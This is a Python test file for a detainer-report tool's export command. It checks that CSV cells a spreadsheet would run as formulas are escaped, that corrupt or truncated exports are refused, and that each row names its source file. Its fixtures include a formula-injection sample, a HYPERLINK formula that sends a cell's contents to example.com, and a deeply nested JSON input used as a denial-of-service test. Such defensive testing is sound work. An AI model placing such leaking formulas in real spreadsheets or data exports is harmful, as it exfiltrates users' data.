"""What ``export`` writes and what opens again: CSV cells that spreadsheets would run as
formulas are guarded (``--raw-csv`` writes them as they are) and read back as they were;
export files of the wrong kinds or cut short are refused in one line; every row of every table
names the file it came from, so two copies of a report can be told apart."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path

import polars as pl
import pytest
from ddorgen.model import Layout
from ddorgen.render import render
from ddorgen.variants import small_report
from test_dataset import WEEK1, make_report

from detainer_tui import export, schema
from detainer_tui.cli import main
from detainer_tui.errors import UnreadableReport
from detainer_tui.report import Report
from detainer_tui.store import ReportCache, file_sha256, load, resolve_open
from detainer_tui.store.exports import read_export

HYPERLINK = '=HYPERLINK("http://example.com/?leak="&A1,"Click")'
D = dt.date(2016, 12, 1)
# (jurisdiction, facility, citizenship, offences): cells a spreadsheet would run, and some
# it would not, in every text column and in the list of offences.
HOSTILE_ROWS = [
    (HYPERLINK, "+1", "-2", ["@SUM(A1)", "Assault"]),
    ("\tTabbed County", "\rJail", "'=already quoted", ["Larceny"]),
    ("O'Brien County", "'Quoted Jail", "Mexico", []),
]


def hostile_report(pdf: Path) -> Report:
    """A report of the rows above, cached for ``pdf`` (whose bytes are not a PDF)."""
    pdf.write_bytes(b"%PDF-1.4 not really a PDF")
    rows = [("TX", j, f, c, o, D, 3) for j, f, c, o in HOSTILE_ROWS]
    report = make_report(WEEK1, rows, name=pdf.name, sha=file_sha256(pdf))
    report.reports = report.reports.with_columns(pl.lit(file_sha256(pdf)).alias(schema.SHA256))
    ReportCache().put(report)
    return report


def export_records(pdf: Path, capsys: pytest.CaptureFixture[str], *options: str) -> str:
    assert main(["export", str(pdf), "--table", "records", "--format", "csv", *options]) == 0
    return capsys.readouterr().out


def cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


# -- CSV cells that spreadsheets run ----------------------------------------------------------
def test_csv_cells_spreadsheets_would_run_are_guarded(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    hostile_report(tmp_path / "odd.pdf")
    rows = cells(export_records(tmp_path / "odd.pdf", capsys))
    assert [row[schema.JURISDICTION] for row in rows] == [
        f"'{HYPERLINK}",
        "'\tTabbed County",
        "O'Brien County",
    ]
    assert [row[schema.FACILITY] for row in rows] == ["'+1", "'\rJail", "'Quoted Jail"]
    assert [row[schema.CITIZENSHIP] for row in rows] == ["'-2", "''=already quoted", "Mexico"]
    assert [row[schema.CRIMINAL_ACTIVITY] for row in rows] == ["'@SUM(A1); Assault", "Larceny", ""]
    # Dates and numbers are never formulas: written as they are.
    assert {row[schema.DETAINER_ISSUED] for row in rows} == {"2016-12-01"}
    assert {row[schema.SOURCE_PAGE] for row in rows} == {"3"}


def test_raw_csv_writes_every_cell_as_it_is(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    hostile_report(tmp_path / "odd.pdf")
    rows = cells(export_records(tmp_path / "odd.pdf", capsys, "--raw-csv"))
    assert [row[schema.JURISDICTION] for row in rows] == [j for j, *_ in HOSTILE_ROWS]
    assert rows[0][schema.CRIMINAL_ACTIVITY] == "@SUM(A1); Assault"


def test_json_is_written_as_it_is(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    hostile_report(tmp_path / "odd.pdf")
    assert (
        main(["export", str(tmp_path / "odd.pdf"), "--table", "records", "--format", "json"]) == 0
    )
    rows = json.loads(capsys.readouterr().out)
    assert rows[0][schema.JURISDICTION] == HYPERLINK


@pytest.mark.parametrize("raw", [False, True])
def test_csv_export_reopens_with_every_cell_as_it_was(tmp_path: Path, raw: bool) -> None:
    report = hostile_report(tmp_path / "odd.pdf")
    path = tmp_path / "records.csv"
    export.write_frame(report.records, "csv", path, raw_csv=raw)
    [reopened] = read_export(path)
    assert reopened.records.equals(report.records)


# -- export files of the wrong kinds ------------------------------------------------------
def _records_json(tmp_path: Path, **changes: object) -> Path:
    report = make_report(WEEK1, [("TX", "Travis County", "Jail", "Mexico", ["Assault"], D, 2)])
    [row] = json.loads(report.records.write_json())
    path = tmp_path / "records.json"
    path.write_text(json.dumps([{**row, **changes}]))
    return path


def _refusal(path: Path) -> str:
    with pytest.raises(UnreadableReport) as caught:
        read_export(path)
    assert "\n" not in str(caught.value)
    return caught.value.reason


def test_deeply_nested_json_is_refused_in_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "records.json"
    path.write_text("[" * 100_000 + "]" * 100_000)
    assert _refusal(path) == "not a detainer-tui export: it is nested too deeply"
    assert main(["export", str(path), "--table", "records", "--format", "csv"]) == 1
    assert len(capsys.readouterr().err.splitlines()) == 1


def test_a_string_where_a_list_belongs_is_refused_not_spelled_out(tmp_path: Path) -> None:
    path = _records_json(tmp_path, criminal_activity="Assault")
    assert _refusal(path) == "column criminal_activity should hold lists of text"


@pytest.mark.parametrize("value", [2.5, True, "2", 1e400])
def test_a_number_of_the_wrong_kind_is_refused(tmp_path: Path, value: object) -> None:
    path = _records_json(tmp_path, source_page=value)
    assert _refusal(path) == "column source_page should hold whole numbers"


def test_csv_export_cut_short_is_refused_in_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    report = hostile_report(tmp_path / "odd.pdf")
    path = tmp_path / "records.csv"
    export.write_frame(report.records, "csv", path)
    whole = path.read_bytes()
    path.write_bytes(whole[: len(whole) - 20])
    assert main(["export", str(path), "--table", "records", "--format", "json"]) == 1
    assert capsys.readouterr().err.splitlines() == [
        f"detainer-tui: error: {path}: the file is cut short: its last row is incomplete "
        "(an interrupted copy?)"
    ]


# -- every row names its file ---------------------------------------------------------------
@pytest.fixture(scope="module")
def original_and_repaired(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """A small report, and a copy whose cross-reference offsets are wrong: the PDF library
    repairs it by scanning, and reads the same rows from different bytes."""
    folder = tmp_path_factory.mktemp("copies")
    spec = small_report(9, Layout(ruling="grid"), records=5, policies=1)
    original = Path(render(spec, folder / "ddor.pdf").path)
    data = original.read_bytes()
    start = data.rindex(b"startxref")
    repaired = folder / "ddor-copy.pdf"
    repaired.write_bytes(data[:start] + b"startxref\n1\n%%EOF\n")
    return original, repaired


def test_every_row_of_every_table_names_its_file(
    original_and_repaired: tuple[Path, Path],
) -> None:
    original, _ = original_and_repaired
    [report] = load(resolve_open([original], remember=False)).reports
    digest = file_sha256(original)
    for table in schema.TABLES:
        frame = report.table(table)
        assert frame.height > 0
        assert frame.get_column(schema.SHA256).to_list() == [digest] * frame.height, table


def test_a_repaired_copy_is_a_revision_whose_rows_can_be_told_apart(
    original_and_repaired: tuple[Path, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    original, repaired = original_and_repaired
    output = tmp_path / "records.csv"
    assert main(["export", str(original), str(repaired), "--table", "records", "--format",
                 "csv", "--output", str(output)]) == 0  # fmt: skip
    notes = capsys.readouterr().err
    assert f"revision: {repaired.name} covers the same period" in notes
    rows = pl.read_csv(output)
    by_file = rows.group_by(schema.SHA256).len().sort(schema.SHA256)
    assert sorted(by_file.get_column(schema.SHA256)) == sorted(
        [file_sha256(original), file_sha256(repaired)]
    )
    assert by_file.get_column("len").to_list() == [rows.height // 2] * 2
    # Opened again, the export is one report per file, as the two PDFs were.
    reopened = read_export(output)
    assert sorted(r.records.item(0, schema.SHA256) for r in reopened) == sorted(
        by_file.get_column(schema.SHA256)
    )


def test_an_export_written_before_rows_named_their_file_names_itself(tmp_path: Path) -> None:
    report = make_report(WEEK1, [("TX", "Travis County", "Jail", "Mexico", [], D, 2)])
    path = tmp_path / "old-records.csv"
    export.write_frame(report.records.drop(schema.SHA256), "csv", path)
    [reopened] = read_export(path)
    assert reopened.records.get_column(schema.SHA256).to_list() == [file_sha256(path)]
